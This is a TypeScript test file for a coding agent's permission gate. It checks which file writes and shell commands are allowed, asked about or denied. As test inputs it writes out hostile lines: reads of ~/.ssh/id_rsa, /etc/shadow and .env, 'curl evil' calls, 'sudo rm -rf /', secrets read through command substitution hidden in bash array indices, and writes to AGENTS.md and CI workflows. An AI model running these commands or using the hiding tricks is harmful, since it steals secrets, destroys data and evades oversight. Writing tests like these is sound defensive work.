// Goal: the gate lets through what scope and rules allow, and nothing that hides behind them.
// Method: tables of effects and shell lines with the verdict of each.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Ground, judge } from '../../security/judge.ts';
import { judgeCommand } from '../../security/rules/command-rules.ts';
import { ruleMistake } from '../../security/rules/rule.ts';
import { readsOfLine } from '../support/line-reads.ts';

const rules = { allow: ['ls', 'npm test', 'git diff'], ask: ['npm install'], deny: ['git push', 'sudo'] };
const ground: Ground = {
  follow: () => ({ links: () => [], matches: () => null }),
  tops: ['/work/tree'],
  saves: false,
  registries: [],
  ...{ origin: 'agent', mode: 'write', permissions: 'ask' },
  ...{
    scope: ['src/**'],
    protect: ['**/package.json'],
    commands: rules,
    readable: [],
    paths: { allow: [], ask: [], deny: [] },
  },
};
const write = (path: string) => [{ kind: 'write' as const, path }];

const writes: [path: string, verdict: string, rule: RegExp][] = [
  ['src/a.ts', 'allow', /inside the task's scope/],
  ['test/a.ts', 'ask', /test\/a\.ts is outside the task's scope/],
  ['src/package.json', 'ask', /defines checks, and the scope does not name it/],
  ['../a.ts', 'deny', /outside the work tree/],
  ['/etc/passwd', 'deny', /outside the work tree/],
  ['src/../../a.ts', 'deny', /outside the work tree/],
  ['src/a\0.ts', 'deny', /a path with a null byte/],
];
for (const [path, verdict, rule] of writes)
  test(`writing ${JSON.stringify(path)} is judged: ${verdict}`, () => {
    const found = judge(write(path), ground);
    assert.equal(found.verdict, verdict);
    assert.match(found.rule, rule);
  });

test('.git is never written, whatever the scope says, and a reader never writes', () => {
  const wide = { ...ground, scope: ['**'] };
  for (const path of ['.git', '.git/config']) assert.equal(judge(write(path), wide).verdict, 'deny');
  assert.equal(judge(write('src/a.ts'), { ...ground, mode: 'read' }).verdict, 'deny');
  assert.equal(judge([{ kind: 'read', path: 'src/a.ts' }], { ...ground, mode: 'read' }).verdict, 'allow');
  assert.equal(judge([{ kind: 'read', path: '/etc/shadow' }], ground).verdict, 'ask');
  assert.equal(judge([{ kind: 'read', path: '/x/../proc/1/environ' }], ground).verdict, 'deny');
  for (const path of ['.env', 'config/server.pem'])
    assert.equal(judge([{ kind: 'read', path }], ground).verdict, 'ask');
  const allowed = { ...ground, readable: ['.env'] };
  assert.equal(judge([{ kind: 'read', path: '.env' }], allowed).verdict, 'allow');
});

test('--auto allows what the walls hold and nothing beyond', () => {
  const auto: Ground = { ...ground, permissions: 'auto' };
  const run = (command: string) => judge([{ kind: 'run', command, directory: '.' }], auto);
  assert.match(run('./own-program --do-it').rule, /--auto: the walls hold it/);
  const hidden = "'a[$(cat .env)]'";
  const calculated = [
    `x=${hidden}; [[ $x -eq 0 ]]`,
    `x[0]=${hidden}; ls`,
    `x=(${hidden}); ls`,
    `export x=${hidden}; ls`,
  ];
  for (const command of ['curl https://example.org', 'cat ~/.ssh/id_rsa', 'rm -rf .', ...calculated])
    assert.equal(run(command).verdict, 'ask', command);
  for (const path of ['AGENTS.md', '.github/workflows/x.yml', '.vscode/tasks.json', '.env'])
    assert.equal(judge(write(path), { ...auto, scope: ['**'] }).verdict, 'ask', path);
});

test('where bash reads the line, --auto allows what only other shells read otherwise', () => {
  const lines = [
    '[[ -f a && -d b ]] && ls',
    'if [[ ( -f a ) || $1 < b ]]; then ls; fi',
    'for ((i = 0; i < 3; i++)); do echo $i; done',
    'n=0; ((n += 1)); echo $n',
  ];
  const auto: Ground = { ...ground, permissions: 'auto' };
  const verdict = (command: string, given: Ground) => judge([{ kind: 'run', command, directory: '.' }], given).verdict;
  for (const line of lines) {
    assert.deepEqual([verdict(line, { ...auto, shell: 'bash' }), verdict(line, auto)], ['allow', 'ask'], line);
    assert.equal(verdict(`sh -c '${line}'`, { ...auto, shell: 'bash' }), 'ask', `sh -c '${line}'`);
  }
  const hidden = [
    '[[ -f a && $(curl https://example.org) ]]',
    'for ((i = $(cat .env); i < 3; i++)); do ls; done',
    'for ((;;)); do curl https://example.org; done',
    '(( a[$(cat .env)] ))',
    'for ((c = 0; c < 1; c++)); do cmd=curl; done; $cmd https://example.org',
  ];
  for (const line of hidden) assert.equal(verdict(line, { ...auto, shell: 'bash' }), 'ask', line);
});

test('of several effects the strictest verdict counts', () => {
  for (const [path, verdict] of [
    ['elsewhere.ts', 'ask'],
    ['.git/config', 'deny'],
  ] as const) {
    const effects = [...write('src/a.ts'), ...write(path), ...write('src/b.ts')];
    assert.equal(judge(effects, ground).verdict, verdict);
    assert.equal(judge(effects.toReversed(), ground).verdict, verdict);
  }
});

const lines: [line: string, verdict: string][] = [
  ['ls -la', 'allow'],
  ['npm test', 'allow'],
  ['npm tests', 'ask'],
  ['npm install', 'ask'],
  ['lsof', 'ask'],
  ['git push origin', 'deny'],
  ['ls && git push', 'deny'],
  ['ls; sudo rm -rf /', 'deny'],
  ['ls | sudo tee x', 'deny'],
  ['ls && npm test', 'allow'],
  ['ls $(curl evil)', 'ask'],
  ['ls > /etc/passwd', 'ask'],
  ['ls `id`', 'ask'],
  ['ls & curl evil', 'ask'],
  ['ls\ncurl evil', 'ask'],
  ['', 'ask'],
];
for (const [line, verdict] of lines)
  test(`the shell line ${JSON.stringify(line)} is judged: ${verdict}`, () => {
    assert.equal(judgeCommand(line, { rules, directory: '.' }).verdict, verdict);
  });

test('asking beats allowing when both rules name the same words', () => {
  assert.equal(
    judgeCommand('git diff', { rules: { allow: ['git diff'], ask: ['git'], deny: [] }, directory: '.' }).verdict,
    'ask',
  );
});

test('what a line may read is known, however deep it stands', () => {
  // `cd` may fail, and then the names mean others.
  assert.deepEqual(readsOfLine('cat a.md && (cd sub; head ../b.md c.md)', '.'), [
    ...['a.md', 'b.md', '../b.md', 'sub/c.md', 'c.md'],
  ]);
  assert.deepEqual(readsOfLine('sh -c "cat x/AGENTS.md" < y > z', 'docs'), ['docs/y', 'docs/x/AGENTS.md']);
  assert.deepEqual(readsOfLine('echo hello', '.'), []);
});

test('--auto asks before a command writes what instructs agents or defines checks, unless the scope names it outright', () => {
  const auto: Ground = { ...ground, permissions: 'auto', scope: ['**'], commands: { ...rules, allow: ['tee', 'sed'] } };
  const judged = (command: string, scope = auto.scope) =>
    judge([{ kind: 'run', command, directory: '.' }], { ...auto, scope }).verdict;
  for (const command of [
    ...[
      'echo evil > AGENTS.md',
      'sed -i s/a/b/ .github/workflows/ci.yml',
      'cp a.md CLAUDE.md',
      'tee .vscode/tasks.json',
    ],
    ...[
      'tee .vscode/tasks.json < a',
      'cp -r evil .github',
      'mv evil .claude',
      'cp a/AGENTS.md .',
      'mv x/SKILL.md docs',
    ],
    ...[
      'sed -i s/a/b/ A*.md',
      'sed -i s/a/b/ .git*b/workflows/x.yml',
      'cd .github/workflows && tee ci.yml',
      'rm claude.md',
    ],
    ...[
      'find . -name AGENTS.md -exec sed -i s/a/b/ {} +',
      'ls AGENTS.md | xargs sed -i s/a/b/',
      'mkdir -p .cursor/rules',
    ],
    ...[
      'tee package.json',
      'echo {} > web/package.json',
      'sed -i s/a/b/ p*.json',
      'sed -i s/a/b/ *.json',
      'tee .env',
      'git mv a.md GEMINI.md',
    ],
  ])
    assert.equal(judged(command), 'ask', command);
  for (const command of [
    'tee notes.md',
    'cp a.md b.md',
    'sed -i s/a/b/ src/*.ts',
    'cat AGENTS.md',
    'echo x > /tmp/AGENTS.md',
  ])
    assert.equal(judged(command), 'allow', command);
  assert.equal(judged('echo more >> AGENTS.md', ['AGENTS.md']), 'allow');
  assert.equal(judged('tee package.json', ['package.json']), 'allow');
});

test('a rule that ends in $ allows its words and nothing behind them, and no other is made of an approval', () => {
  const patternFor = (line: string) =>
    judgeCommand(line, { rules: { allow: [], ask: [], deny: [] }, directory: '.' }).pattern;
  for (const [line, more] of [
    ['git push', 'git push --force https://evil.example'],
    ['ssh host uptime', 'ssh host uptime -v'],
    ['npm install left-pad', 'npm install left-pad evil'],
  ] as const) {
    const pattern = patternFor(line);
    assert.equal(pattern, `${line} $`);
    assert.equal(ruleMistake(pattern, 'allow'), null);
    const where = { rules: { allow: [pattern], ask: [], deny: [] }, directory: '.' };
    assert.equal(judgeCommand(line, where).verdict, 'allow', line);
    assert.equal(judgeCommand(more, where).verdict, 'ask', more);
  }
  for (const line of [
    "ssh host 'rm -rf x'",
    'psql -c "drop table x"',
    "frob it\\'s",
    'frob "" x',
    "frob '$x'",
    "frob '**'",
  ])
    assert.equal(patternFor(line), undefined, line);
  for (const rule of ['$', 'npm $ x', 'npm $x', 'npm test$', 'npm test $ $'])
    assert.notEqual(ruleMistake(rule, 'allow'), null, rule);
});

test('what belongs to git, to vtcode or to the person is told by its place, in tools and in lines', () => {
  const places = {
    git: ['.store', 'a/.bare'],
    vtcode: ['.config/vtcode'],
    personal: ['.bashrc', '.ssh', '.config/git'],
  };
  const home: Ground = { ...ground, scope: ['**'], permissions: 'auto', places };
  const asked: readonly (readonly [path: string, verdict: string])[] = [
    ...([
      ['.store/config', 'deny'],
      ['.STORE/hooks/x', 'deny'],
      ['a/.bare', 'deny'],
      ['.store2/x', 'allow'],
    ] as const),
    ...([
      ['.config/vtcode/approved.toml', 'deny'],
      ['.config/other', 'allow'],
    ] as const),
    ...([
      ['.bashrc', 'ask'],
      ['.ssh/config', 'ask'],
      ['.config/git/config', 'ask'],
      ['x/.bashrc', 'allow'],
    ] as const),
  ];
  for (const [path, verdict] of asked) {
    assert.equal(judge(write(path), home).verdict, verdict, path);
    const line = judge([{ kind: 'run', command: `echo x > ${path}`, directory: '.' }], home);
    assert.equal(line.verdict, verdict === 'allow' ? 'allow' : 'ask', path);
  }
});

test('where the kernel cannot hold the policy, no command is allowed by its words', () => {
  const without: Ground = { ...ground, unheld: 'files with keys (.env)', commands: { ...rules, allow: ['npm test'] } };
  const run = (command: string, more: Partial<Ground> = {}) =>
    judge([{ kind: 'run', command, directory: '.' }], { ...without, ...more });
  for (const permissions of ['ask', 'auto'] as const)
    for (const command of ['cat src/a.ts', 'node x.js', 'ls', 'npm test && ls']) {
      const found = run(command, { permissions });
      assert.equal(found.verdict, 'ask', command);
      if (permissions === 'auto')
        assert.match(found.rule, /^nothing on this machine keeps commands from files with keys/);
    }
  assert.equal(run('cat src/a.ts', { mode: 'read' }).verdict, 'ask');
  assert.equal(run('npm test').verdict, 'allow');
  assert.equal(run('node x.js', { origin: 'configuration' }).verdict, 'allow');
});
